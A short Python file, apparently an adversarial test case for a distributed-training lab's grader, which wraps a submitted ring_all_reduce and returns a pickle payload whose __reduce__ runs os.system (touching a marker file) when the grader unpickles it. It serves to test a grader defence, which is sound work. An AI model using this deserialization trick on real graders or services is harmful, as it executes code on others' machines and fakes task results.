# attack: return an object whose unpickling runs code in the grader
# defended-by: split
# needs: Lab 01's ring_all_reduce, whose return value the test unpickles
import os

_honest = ring_all_reduce


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/dtlabs-pwned",))


def ring_all_reduce(tensor):
    _honest(tensor)
    return _Payload()
